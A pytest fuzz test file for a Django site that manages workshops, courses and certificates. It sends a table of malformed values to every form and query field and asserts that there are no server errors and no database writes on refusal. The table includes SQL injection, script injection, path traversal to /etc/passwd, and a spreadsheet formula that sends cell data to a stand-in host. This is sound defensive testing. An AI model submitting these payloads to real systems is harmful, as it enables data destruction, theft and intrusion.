"""Fuzz: a table of malformed values sent to every form field and query parameter of the public
and account views, as the role that uses each one. Nothing may answer 5xx, and input that is
refused (anything but a redirect) writes no row.

For each target, len(MALFORMED) submissions in which every field meets every value once (a Latin
square: all fields malformed at a time, since a form parses each field whatever the others
hold); then each *strict* field (ids, and what the models check) gets every value in turn with
the other fields valid, so that the value reaches the check that must stop it, and must write
nothing whatever the answer; then every field at once gets bytes that are not UTF-8 (400). A
table, not random generation: the same run every time, in bounded time (about 350 requests)."""

import datetime
from dataclasses import dataclass

import pytest
from allauth.account.models import EmailAddress
from django.contrib.auth import get_user_model
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from wagtail.models import ModelLogEntry

from certificates.models import (
    CalProgrammeRecord,
    CalReview,
    ParticipantCertificate,
    QualityCertificate,
)
from certificates.services import participant_certificate_issue
from cms import roles
from cms.models import Centre, CentreChangeRequest, ConsentRecord
from courses.models import (
    CoursePage,
    CourseProgress,
    ModuleCompletion,
    ModulePage,
    QuizAttempt,
)
from enrolment.models import AttendanceRecord, CentrePolicy, Enrolment, EnrolmentLog, Workshop
from enrolment.services import enrolment_create
from tests.cms.helpers import PASSWORD
from tests.courses import factories as course_factories
from tests.enrolment.factories import WorkshopFactory
from tests.factories import CentreFactory, UserFactory

User = get_user_model()
pytestmark = pytest.mark.django_db

MALFORMED = [
    ("arabic-indic digits", "٣٤"),
    ("fullwidth digits", "３４"),
    ("devanagari digits", "३४"),
    ("digits with underscore", "1_000"),
    ("negative", "-1"),
    ("huge", str(2**70)),
    ("exponent", "1e309"),
    ("not a number", "NaN"),
    ("empty", ""),
    ("spaces", "   "),
    ("nul byte", "ab\x00cd"),
    ("control and bidi", "\x1b[31m\u202e\ufeff"),
    ("very long", "ż" * 5000),
    ("many digits", "9" * 400),
    ("array", ["٣", "x"]),  # a repeated field: Django reads the last value
    ("sql", "1' OR '1'='1'; DROP TABLE cms_user; --"),
    ("html", '"><script>alert(1)</script>'),
    ("formula", '=HYPERLINK("http://zly.example/?"&A1;"kliknij")'),
    ("path traversal", "../../../etc/passwd"),
    ("date-like", "2026-02-30"),
]
NOT_UTF8 = "%FF%FE%C3%28"

# Rows that refused input must not touch.
TABLES = [
    User,
    EmailAddress,
    Centre,
    CentreChangeRequest,
    ConsentRecord,
    ModelLogEntry,
    CourseProgress,
    ModuleCompletion,
    QuizAttempt,
    Workshop,
    Enrolment,
    EnrolmentLog,
    AttendanceRecord,
    CentrePolicy,
    ParticipantCertificate,
    QualityCertificate,
    CalReview,
]


def rows():
    return {model.__name__: model.objects.count() for model in TABLES}


class World:
    """Everything the forms point at, made once per test and only as far as a target needs."""

    def __init__(self):
        self.centre = CentreFactory()
        self.other_centre = CentreFactory()
        self.participant = UserFactory(role=roles.PARTICIPANTS, centre=self.centre)
        self.colleague = UserFactory(role=roles.PARTICIPANTS, centre=self.centre)
        self.coordinator = UserFactory(role=roles.CENTRE_COORDINATORS, centre=self.centre)
        self.trainer = UserFactory(role=roles.TRAINERS)
        self.programme = UserFactory(role=roles.PROGRAMME_COORDINATORS, centre=None)
        self._cache = {}

    def _once(self, name, make):
        if name not in self._cache:
            self._cache[name] = make()
        return self._cache[name]

    @property
    def workshop(self):
        return self._once("workshop", lambda: WorkshopFactory(trainers=[self.trainer]))

    @property
    def running(self):
        """A workshop that started yesterday, the participant on it (attendance can be marked)."""

        def make():
            today = timezone.localdate()
            workshop = WorkshopFactory(
                day_one_date=today - datetime.timedelta(days=1),
                day_two_date=today,
                trainers=[self.trainer],
            )
            enrolment = enrolment_create(
                participant=self.participant,
                workshop=workshop,
                actor=self.participant,
                now=timezone.now() - datetime.timedelta(days=30),
            )
            return workshop, enrolment

        return self._once("running", make)

    @property
    def module(self):
        """A module with a two-question quiz (tests/courses/factories.py's), made here through
        Wagtail's tree API."""

        def make():
            course = course_factories.catalogue().add_child(
                instance=CoursePage(title="Kurs", description="<p>Opis.</p>", pass_mark=70)
            )
            return course.add_child(
                instance=ModulePage(
                    title="Moduł 1",
                    introduction="Wprowadzenie do modułu.",
                    body=course_factories.module_body(),
                )
            )

        return self._once("module", make)

    @property
    def certificate(self):
        return self._once(
            "certificate",
            lambda: participant_certificate_issue(
                holder=self.participant,
                enrolment_id=None,
                workshop_key="workshop:1",
                course_title="Animator lokalny — szkolenie Modelu OSL",
                role_name="Animator lokalny",
                workshop_dates=[datetime.date(2026, 3, 12), datetime.date(2026, 3, 13)],
                town="Łódź",
                hours=16,
                trainers=["Agnieszka Lewandowska"],
            ),
        )

    @property
    def cal_record(self):
        return self._once(
            "cal_record",
            lambda: CalProgrammeRecord.objects.create(
                centre=self.centre, started_on=datetime.date(2024, 1, 1)
            ),
        )


@dataclass
class Target:
    name: str
    role: str  # an attribute of World holding the user, or "anonymous"
    method: str
    url: callable
    base: callable  # World -> the valid data the fields are fuzzed from
    # Fields fuzzed one at a time as well, the others valid: no value of the table is valid
    # there, so none may write anything (ids, and what the models check).
    strict: tuple = ()
    square: bool = True  # False: only the strict fields (the form is fuzzed by another target)


def signup_base(w):
    return {
        "email": "fuzz@example.pl",
        "password1": PASSWORD,
        "password2": PASSWORD,
        "first_name": "Anna",
        "last_name": "Nowak",
        "job_title": "pracownica socjalna",
        "phone": "",
        "centre": "new",
        "new_centre_name": "Ośrodek Pomocy Społecznej w Fuzzowie",
        "new_centre_kind": "ops",
        "new_centre_street": "ul. Krótka 2",
        "new_centre_postal_code": "26-600",
        "new_centre_town": "Fuzzowo",
        "new_centre_county": "radomski",
        "new_centre_voivodeship": "mazowieckie",
        "consent": "on",
    }


def profile_base(w):
    return {
        "first_name": "Zofia Anna",
        "last_name": w.participant.last_name,
        "job_title": "pracownica socjalna",
        "phone": "",
        "centre": str(w.centre.pk),
    }


def attendance_base(w):
    _workshop, enrolment = w.running
    return {f"status_{enrolment.pk}": "partial", f"hours_{enrolment.pk}": "3.5"}


def correct_base(w):
    return {
        "holder_name": "Zofia Nowak",
        "course_title": "Animator lokalny",
        "role_name": "Animator lokalny",
        "town": "Łódź",
        "hours": "16",
        "trainers": "Agnieszka Lewandowska",
        "reason": "Literówka w nazwisku.",
    }


TARGETS = [
    # Public.
    Target(
        "catalogue",
        "anonymous",
        "get",
        lambda w: reverse("enrolment:catalogue"),
        lambda w: {
            "wojewodztwo": "mazowieckie",
            "miesiac": "",
            "kurs": "",
            "wolne": "",
            "strona": "1",
        },
    ),
    Target(
        "search",
        "anonymous",
        "get",
        lambda w: reverse("courses:search"),
        lambda w: {"q": "animacja", "strona": "1"},
    ),
    Target(
        "certificate lookup",
        "anonymous",
        "get",
        lambda w: reverse("certificates:lookup"),
        lambda w: {"kod": "7KQ2-M9XD-4RTA"},
    ),
    Target(
        "sign-up",
        "anonymous",
        "post",
        lambda w: reverse("account_signup"),
        signup_base,
        strict=("new_centre_postal_code",),
    ),
    Target(
        "sign-up choosing a centre",
        "anonymous",
        "post",
        lambda w: reverse("account_signup"),
        lambda w: {**signup_base(w), "centre": str(w.centre.pk)},
        strict=("centre",),
        square=False,
    ),
    Target(
        "log-in",
        "anonymous",
        "post",
        lambda w: reverse("account_login"),
        lambda w: {"login": w.participant.email, "password": "zle-haslo"},
    ),
    Target(
        "password reset",
        "anonymous",
        "post",
        lambda w: reverse("account_reset_password"),
        lambda w: {"email": "nikt@example.pl"},
    ),
    # A participant's own account and learning.
    Target(
        "profile",
        "participant",
        "post",
        lambda w: reverse("cms:profile"),
        profile_base,
        strict=("centre",),
    ),
    Target(
        "delete account",
        "participant",
        "post",
        lambda w: reverse("cms:delete_account"),
        lambda w: {"password": "to-nie-jest-haslo"},
    ),
    Target(
        "quiz",
        "participant",
        "post",
        lambda w: reverse("courses:quiz_submit", args=[w.module.pk]),
        lambda w: {
            "quiz": w.module.quiz_ids[0],
            **course_factories.RIGHT_ANSWERS,
        },
    ),
    Target(
        "cancel sign-up",
        "participant",
        "post",
        lambda w: reverse("enrolment:cancel", args=[w.running[1].pk]),
        lambda w: {"next": reverse("enrolment:my_workshops")},
    ),
    # A centre coordinator.
    Target(
        "centre signs up staff",
        "coordinator",
        "post",
        lambda w: reverse("enrolment:centre_signup"),
        lambda w: {"participant": str(w.colleague.pk), "workshop": str(w.workshop.pk)},
        strict=("participant", "workshop"),
    ),
    Target(
        "centre policy",
        "coordinator",
        "post",
        lambda w: reverse("enrolment:centre_policy"),
        lambda w: {"requires_approval": "on"},
    ),
    Target(
        "centre certificates",
        "coordinator",
        "get",
        lambda w: reverse("certificates:centre"),
        lambda w: {"rok": "", "szkolenie": ""},
    ),
    Target(
        "centre bundle",
        "coordinator",
        "get",
        lambda w: reverse("certificates:centre_bundle"),
        lambda w: {"rok": "", "szkolenie": ""},
    ),
    # A trainer.
    Target(
        "attendance",
        "trainer",
        "post",
        lambda w: reverse("enrolment:attendance", args=[w.running[0].code, 1]),
        attendance_base,
    ),
    # A programme coordinator.
    Target(
        "programme bundle",
        "programme",
        "get",
        lambda w: reverse("certificates:programme_bundle"),
        lambda w: {"osrodek": str(w.centre.pk), "rok": "2026", "szkolenie": ""},
    ),
    Target(
        "correct certificate",
        "programme",
        "post",
        lambda w: reverse("certificates:correct", args=[w.certificate.verification_code]),
        correct_base,
    ),
    Target(
        "CAL review",
        "programme",
        "post",
        lambda w: reverse("certificates:cal_review", args=[w.cal_record.pk]),
        lambda w: {
            "decision": "refuse",
            "justification": "Brak dowodów.",
            "valid_from": "",
            "valid_until": "",
        },
    ),
    Target(
        "revoke certificate",
        "programme",
        "post",
        lambda w: reverse("certificates:revoke", args=[w.certificate.verification_code]),
        lambda w: {"reason": ""},
    ),
]


@pytest.fixture(autouse=True)
def no_rate_limits(settings):
    settings.ACCOUNT_RATE_LIMITS = False
    settings.CERTIFICATES_VERIFY_RATE = (10**6, 1)


def client_for(world, role):
    client = Client(raise_request_exception=False)
    if role != "anonymous":
        client.force_login(getattr(world, role))
    return client


def send(client, target, url, data):
    if target.method == "get":
        return client.get(url, data)
    return client.post(url, data)


def send_raw(client, target, url, encoded: str):
    if target.method == "get":
        return client.get(f"{url}?{encoded}")
    return client.generic(
        "POST", url, encoded.encode("ascii"), content_type="application/x-www-form-urlencoded"
    )


def latin_square(base):
    """len(MALFORMED) submissions in which every field gets every value once, all fields
    malformed at a time (each field of a form is parsed whatever the others hold)."""
    names = list(base)
    for row in range(len(MALFORMED)):
        cells = [MALFORMED[(row + column) % len(MALFORMED)] for column in range(len(names))]
        label = ", ".join(f"{name}={cell[0]}" for name, cell in zip(names, cells, strict=True))
        yield label, {name: cell[1] for name, cell in zip(names, cells, strict=True)}


@pytest.mark.parametrize("target", TARGETS, ids=[t.name for t in TARGETS])
def test_malformed_input_gets_no_server_error_and_writes_nothing(target):
    world = World()
    url = target.url(world)
    base = target.base(world)
    client = client_for(world, target.role)
    problems = []

    def submit(label, data, *, must_refuse=False):
        before = rows()
        response = send(client, target, url, data)
        status = response.status_code
        after = rows()
        refused = target.method == "get" or must_refuse or not 300 <= status < 400
        if status >= 500:
            problems.append(f"{label}: {status}")
        elif refused and after != before:
            changed = {k: (before[k], v) for k, v in after.items() if before[k] != v}
            problems.append(f"{label}: refused ({status}) but wrote {changed}")
        return response

    for label, data in latin_square(base) if target.square else ():
        submit(label, data)
    for name in target.strict:
        for label, value in MALFORMED:
            submit(f"{name}={label}", {**base, name: value}, must_refuse=True)

    before = rows()
    response = send_raw(client, target, url, "&".join(f"{name}={NOT_UTF8}" for name in base))
    if response.status_code != 400 or rows() != before:
        problems.append(f"every field not UTF-8: {response.status_code}, not 400")

    assert not problems, "\n".join(problems)


def test_the_table_covers_every_kind_of_value():
    labels = {label for label, _ in MALFORMED}
    assert {"arabic-indic digits", "nul byte", "very long", "array", "sql", "html"} <= labels
    assert any(isinstance(value, list) for _, value in MALFORMED)


@pytest.mark.parametrize(
    "name", ["sign-up", "sign-up choosing a centre", "profile", "centre signs up staff", "quiz"]
)
def test_the_fuzzing_starts_from_valid_data(name):
    """The base data of a target with strict fields is accepted and written: else a strict
    field's refusal would prove nothing."""
    target = next(t for t in TARGETS if t.name == name)
    world = World()
    client = client_for(world, target.role)
    url, base = target.url(world), target.base(world)
    before = rows()

    response = send(client, target, url, base)

    assert response.status_code == 302
    assert rows() != before
